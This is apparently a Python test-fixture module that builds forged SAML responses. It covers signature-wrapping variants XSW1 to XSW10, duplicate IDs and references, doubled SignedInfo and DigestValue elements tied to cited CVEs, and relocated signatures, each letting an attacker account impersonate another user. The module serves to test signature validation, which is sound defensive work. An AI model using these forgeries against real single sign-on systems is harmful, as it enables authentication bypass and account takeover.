"""Hostile SAML documents: signature wrapping, and other ways to give two readers two views of one document.

The attacker has one good answer for their own account ("mallory"), and wants to be Olga. Each function returns the
document that does it, for the request `facts.request_id`. The names of XSW1 to XSW8 are those of SAML Raider.
"""

from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace

from lxml import etree

from provisioning.tests.saml_messages import NS, Facts, assertion_of, good, sign, unsigned

Attack = Callable[[Facts], etree._Element | bytes]
ATTACKS: dict[str, Attack] = {}
OLGA, MALLORY = "olga-at-idp", "mallory-at-idp"


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def own(facts: Facts, how: str = "assertion") -> etree._Element:
    """Return the attacker's own good answer."""
    return good(replace(facts, name_id=MALLORY), how)


def signature_of(element: etree._Element) -> etree._Element:
    return element.find("ds:Signature", NS)


def evil(element: etree._Element, *, new_id: str | None = "_evil") -> etree._Element:
    """Return an unsigned copy that names Olga."""
    copy = deepcopy(element)
    for signature in list(copy.iter(f"{{{NS['ds']}}}Signature")):
        signature.getparent().remove(signature)
    for name_id in copy.iter(f"{{{NS['saml']}}}NameID"):
        name_id.text = OLGA
    if new_id is not None:
        copy.set("ID", new_id)
    return copy


def plain(element: etree._Element) -> etree._Element:
    """Return a copy without its own signature."""
    copy = deepcopy(element)
    copy.remove(signature_of(copy))
    return copy


def child(parent: etree._Element, name: str) -> etree._Element:
    prefix, _colon, local = name.partition(":")
    return etree.SubElement(parent, f"{{{NS[prefix]}}}{local}")


@attack
def xsw1_response_inside_the_signature(facts):
    original = own(facts, "response")
    forged = evil(original)
    signature = deepcopy(signature_of(original))
    forged.insert(1, signature)
    signature.append(plain(original))
    return forged


@attack
def xsw2_response_beside_the_signature(facts):
    original = own(facts, "response")
    forged = evil(original)
    forged.insert(1, plain(original))
    forged.insert(2, deepcopy(signature_of(original)))
    return forged


@attack
def xsw3_evil_assertion_before_the_good_one(facts):
    response = own(facts)
    assertion_of(response).addprevious(evil(assertion_of(response)))
    return response


@attack
def xsw3_evil_assertion_after_the_good_one(facts):
    response = own(facts)
    response.append(evil(assertion_of(response)))
    return response


@attack
def xsw4_good_assertion_inside_the_evil_one(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original)
    response.replace(original, forged)
    forged.append(original)
    return response


@attack
def xsw5_signature_moved_to_the_evil_assertion(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original)
    forged.insert(1, deepcopy(signature_of(original)))
    response.replace(original, forged)
    response.append(plain(original))
    return response


@attack
def xsw6_good_assertion_inside_the_moved_signature(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original)
    signature = deepcopy(signature_of(original))
    forged.insert(1, signature)
    signature.append(plain(original))
    response.replace(original, forged)
    return response


@attack
def xsw7_evil_assertion_in_extensions(facts):
    response = own(facts)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    response.insert(1, extensions)
    extensions.append(evil(assertion_of(response), new_id=None))
    return response


@attack
def xsw8_good_assertion_in_an_object_of_the_signature(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original, new_id=None)
    signature = deepcopy(signature_of(original))
    forged.insert(1, signature)
    child(signature, "ds:Object").append(plain(original))
    response.replace(original, forged)
    return response


@attack
def xsw9_good_assertion_in_status_detail(facts):
    response = own(facts)
    original = assertion_of(response)
    response.append(evil(original))
    child(response.find("samlp:Status", NS), "samlp:StatusDetail").append(original)
    return response


@attack
def xsw10_good_assertion_in_advice(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original)
    response.replace(original, forged)
    forged.find("saml:Conditions", NS).addnext(etree.Element(f"{{{NS['saml']}}}Advice"))
    forged.find("saml:Advice", NS).append(original)
    return response


@attack
def good_assertion_in_an_encrypted_wrapper(facts):
    response = own(facts)
    original = assertion_of(response)
    response.append(evil(original))
    child(response, "saml:EncryptedAssertion").append(original)
    return response


@attack
def good_assertion_in_an_attribute_value(facts):
    response = own(facts)
    original = assertion_of(response)
    forged = evil(original)
    response.replace(original, forged)
    forged.find(".//saml:AttributeValue", NS).append(original)
    return response


@attack
def good_response_inside_another_root(facts):
    root = etree.Element("root")
    root.append(own(facts, "both"))
    return root


@attack
def two_responses(facts):
    response = own(facts, "response")
    response.append(evil(response))
    return response


@attack
def two_assertions_that_are_both_signed(facts):
    response = own(facts)
    other = assertion_of(good(replace(facts, assertion_id="_assertion-2")))
    response.append(deepcopy(other))
    return response


@attack
def two_name_ids(facts):
    response = own(facts)
    name_id = response.find(".//saml:NameID", NS)
    name_id.addprevious(deepcopy(name_id))
    name_id.getprevious().text = OLGA
    return response


@attack
def same_id_on_the_evil_assertion(facts):
    response = own(facts)
    original = assertion_of(response)
    original.addprevious(evil(original, new_id=None))
    return response


@attack
def same_id_on_response_and_assertion(facts):
    return good(replace(facts, response_id="_same", assertion_id="_same"), "both")


@attack
def empty_reference(facts):
    """CVE-2022-41912 and others: a reference without a name covers whatever is the root."""
    response = good(facts)
    response.find(".//ds:Reference", NS).set("URI", "")
    return response


@attack
def reference_to_the_response(facts):
    response = own(facts)
    response.find(".//ds:Reference", NS).set("URI", "#" + response.get("ID"))
    return response


@attack
def two_references(facts):
    response = good(facts)
    reference = response.find(".//ds:Reference", NS)
    reference.addnext(deepcopy(reference))
    return response


@attack
def no_reference(facts):
    response = good(facts)
    reference = response.find(".//ds:Reference", NS)
    reference.getparent().remove(reference)
    return response


@attack
def two_signatures_in_one_assertion(facts):
    response = good(facts)
    signature = signature_of(assertion_of(response))
    signature.addnext(deepcopy(signature))
    return response


@attack
def two_signed_infos(facts):
    """CVE-2025-29774 and CVE-2025-29775: the digest is read from one, the signature checked with the other."""
    response = evil_attributes(good(replace(facts, name_id=MALLORY)))
    info = response.find(".//ds:SignedInfo", NS)
    info.addprevious(deepcopy(info))
    return response


@attack
def two_digest_values(facts):
    response = evil_attributes(good(replace(facts, name_id=MALLORY)))
    digest = response.find(".//ds:DigestValue", NS)
    digest.addprevious(deepcopy(digest))
    return response


@attack
def signature_of_a_name_id(facts):
    """A signature over another element is no signature of the assertion."""
    response = unsigned(facts)
    name_id = response.find(".//saml:NameID", NS)
    name_id.set("ID", "_name")
    sign(name_id)
    return response


@attack
def signature_moved_to_the_status(facts):
    response = own(facts)
    response.find("samlp:Status", NS).append(signature_of(assertion_of(response)))
    return evil_attributes(response)


@attack
def response_signature_moved_into_the_assertion(facts):
    response = own(facts, "response")
    assertion_of(response).insert(1, signature_of(response))
    return evil_attributes(response)


def evil_attributes(response: etree._Element) -> etree._Element:
    """Change a signed answer to name Olga."""
    for name_id in response.iter(f"{{{NS['saml']}}}NameID"):
        name_id.text = OLGA
    return response
